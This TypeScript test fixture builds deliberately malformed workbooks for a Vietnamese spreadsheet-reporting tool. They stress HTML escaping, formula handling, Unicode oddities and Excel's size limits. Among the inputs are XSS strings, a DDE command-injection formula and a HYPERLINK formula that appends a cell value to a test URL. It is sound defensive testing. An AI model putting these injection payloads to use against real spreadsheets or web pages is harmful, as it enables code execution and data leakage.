import { emptySheet } from "../../src/core/edits/state";
import type { CellValue, Sheet, Workbook } from "../../src/core/model/workbook";

/** A workbook somebody might have made to hurt, or broken beyond what anybody would type. */
export interface HostileWorkbook {
  /** In Vietnamese, for the page made of these. */
  readonly what: string;
  readonly workbook: () => Workbook;
  /** Not tried through Excel's client: too large for the spreadsheet the tests run it on, mostly. */
  readonly inMemoryOnly?: true;
}

type Row = readonly CellValue[];

const head: Row = ["STT", "Đơn vị", "Chỉ tiêu", "Thực hiện", "Tỉ lệ đạt (%)"];

/** A small table with a wrong total and a wrong percent, so that there is something to find and to write. */
const tableOf = (names: readonly string[], headings: Row = head): readonly Row[] => [
  headings,
  ...names.map((name, at): Row => [at + 1, name, 1000 + at, 500 + at, at === 0 ? 77.7 : ratio(at)]),
  [null, "Tổng cộng", sum(names, 1000), sum(names, 500) + 9, 50.05],
];

const ratio = (at: number): number => Math.round(((500 + at) * 10000) / (1000 + at)) / 100;

const sum = (names: readonly string[], base: number): number =>
  names.reduce((total, _, at) => total + base + at, 0);

const units = ["Ninh Hải", "Bác Ái", "Ninh Sơn", "Thuận Bắc"];

interface SheetOptions {
  readonly name?: string;
  readonly row?: number;
  readonly column?: number;
  readonly formula?: (row: number, column: number) => string | null;
}

function bookOf(
  rows: readonly Row[],
  { name = "Biểu 1", row = 0, column = 0, formula = () => null }: SheetOptions = {},
): Workbook {
  const width = Math.max(...rows.map(({ length }) => length));
  const values = rows.map((cells) => Array.from({ length: width }, (_, at) => cells[at] ?? null));
  const sheet: Sheet = {
    ...emptySheet(name),
    row,
    column,
    values,
    formulas: values.map((cells, r) => cells.map((_, c) => formula(r, c))),
    numberFormats: values.map((cells) =>
      cells.map((value) => (typeof value === "string" ? "@" : "General")),
    ),
  };
  return { sheets: [sheet], sheetNames: [name], activeSheet: name, selection: null };
}

const scripts = [
  "<img src=x onerror=alert(1)>",
  "</td></table><script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
];

const formulas = [
  "=1+1",
  '=HYPERLINK("http://x.test/?"&A1;"xem")',
  "+SUM(A1:A9)",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "'=1+1",
  "=cmd|' /C calc'!A0",
];

const invisible = [
  "Ninh\u200B Hải",
  "\u202EiảH hniN",
  "Bác\u00A0Ái",
  "\u2066Bác Ái\u2069",
  "\uFEFFNinh Sơn",
  "Thuận\u0000Bắc".replace("\u0000", "\u00AD"),
];

const surrogates = ["\uD83D", "\uDE00Ninh Hải", "Bác \uD800 Ái", "😀 Thuận Bắc"];

/** Numbers no statistic has, each at the edge of something. */
const edges = [1e308, 5e-324, -0, 0.1 + 0.2, 2 ** 53, -1e15, 1e21, 123456789012345680];

/** The same numbers every time, without rhyme. */
function dice(seed: number): (sides: number) => number {
  let state = seed;
  return (sides) => {
    state = (Math.imul(state, 1103515245) + 12345) & 0x7fffffff;
    return (state >>> 8) % sides;
  };
}

const scraps: readonly CellValue[] = [
  ...[null, null, null, "Tổng cộng", "Trong đó", "I", "II", "1.1", "Đơn vị", "%", "STT", "Cùng kỳ"],
  ...[
    "Kế hoạch",
    "Quý I",
    "-",
    "…",
    "(1)",
    "(2)=(1)+3",
    "12%",
    "67.269",
    "1,5",
    true,
    0.5,
    5,
    7,
    12,
  ],
];

function chaos(rowCount: number, columnCount: number): readonly Row[] {
  const throwDice = dice(20240630);
  return Array.from({ length: rowCount }, () =>
    Array.from({ length: columnCount }, () => scraps[throwDice(scraps.length)] ?? null),
  );
}

const longest = 32_767;

/** Excel's own limits. */
const lastRow = 1_048_576;
const lastColumn = 16_384;

export const hostileWorkbooks: readonly HostileWorkbook[] = [
  { what: "Tên đơn vị là mã HTML", workbook: () => bookOf(tableOf(scripts)) },
  {
    what: "Tiêu đề cột là mã HTML",
    workbook: () => bookOf(tableOf(units, ["STT", "Đơn vị", ...scripts.slice(0, 3)])),
  },
  {
    what: "Tên trang có dấu nháy và mã HTML",
    workbook: () => bookOf(tableOf(units), { name: "O'Neil \"1\" <b>&'x" }),
  },
  { what: "Tên đơn vị là công thức (=, +, −, @, tab)", workbook: () => bookOf(tableOf(formulas)) },
  {
    what: "Tiêu đề cột là công thức",
    workbook: () => bookOf(tableOf(units, ["STT", "Đơn vị", ...formulas.slice(0, 3)])),
  },
  {
    what: "Ô dài 32.767 ký tự, cả tên lẫn tiêu đề",
    workbook: () =>
      bookOf(
        tableOf(
          ["Xã ".padEnd(longest, "dài "), "=".repeat(longest), ...units],
          ["STT", "Đơn vị", "Chỉ tiêu ".padEnd(longest, "x"), "Thực hiện", "Tỉ lệ đạt (%)"],
        ),
      ),
  },
  {
    what: "Số và ký hiệu cột dài 32.767 ký tự",
    workbook: () =>
      bookOf([
        ["Đơn vị", "Chỉ tiêu", "Thực hiện"],
        ["A", "1=2/".repeat(8_000), `(1)=${"(2)+".repeat(8_000)}(3)`],
        ["Ninh Hải", "1".repeat(longest), "1.".repeat(16_000)],
        ["Bác Ái", "-".repeat(longest), "x".repeat(longest)],
      ]),
  },
  {
    what: "Ô có 32.767 dấu cách",
    // Microsoft's own client takes ten seconds to trim such a cell of its answers
    inMemoryOnly: true,
    workbook: () => bookOf(tableOf([" ".repeat(longest - 1) + "x", ...units])),
  },
  {
    what: "Bảng nằm ở những dòng và cột cuối cùng của trang",
    inMemoryOnly: true,
    workbook: () => {
      const rows = tableOf(units);
      return bookOf(rows, { row: lastRow - rows.length, column: lastColumn - head.length });
    },
  },
  {
    what: "16.384 cột",
    inMemoryOnly: true,
    workbook: () => {
      const names = ["Chỉ tiêu", "Thực hiện", "Tỉ lệ đạt (%)"];
      const figures = Array.from({ length: lastColumn - 1 }, (_, at) =>
        at % 3 === 2 ? 50 : 100 + 100 * ((at + 1) % 2),
      );
      return bookOf([
        ["Đơn vị", ...figures.map((_, at) => names[at % names.length] ?? null)],
        ["Ninh Hải", ...figures],
        ["Tổng cộng", ...figures.with(6, 7)],
      ]);
    },
  },
  {
    what: "10.000 dòng tổng",
    inMemoryOnly: true,
    workbook: () =>
      bookOf([head, ...Array.from({ length: 10_000 }, (): Row => [null, "Tổng cộng", 1, 2, 3])]),
  },
  {
    what: "Ô gộp và ô trống lộn xộn, chữ số rải khắp nơi",
    workbook: () => bookOf(chaos(60, 14)),
  },
  {
    what: "Công thức vòng tròn",
    workbook: () =>
      bookOf(tableOf(units), {
        formula: (row, column) =>
          column === 3 && row > 0 ? `=D${row === 4 ? 2 : row + 2}+1` : null,
      }),
  },
  {
    what: "Ô nào cũng báo lỗi",
    workbook: () =>
      bookOf([
        head,
        ...units.map((unit, at): Row => [at + 1, unit, ...errors]),
        [null, "Tổng cộng", ...errors],
      ]),
  },
  {
    what: "Chữ viết từ phải sang, ký tự không thấy được",
    workbook: () => bookOf(tableOf(invisible)),
  },
  { what: "Nửa ký tự (surrogate lẻ)", workbook: () => bookOf(tableOf(surrogates)) },
  {
    what: "Số lớn nhất, nhỏ nhất, lẻ nhất",
    workbook: () =>
      bookOf([
        head,
        ...edges.map((edge, at): Row => [at + 1, `Xã ${at + 1}`, edge, -edge, edge]),
        [null, "Tổng cộng", ...edges.slice(0, 3)],
      ]),
  },
  {
    what: "Trang chỉ có một ô, hoặc không có ô nào",
    workbook: () => bookOf([["Đơn vị"]]),
  },
];

const errors: Row = ["#REF!", "#DIV/0!", "#N/A"].map((code) => ({ kind: "error", code }));
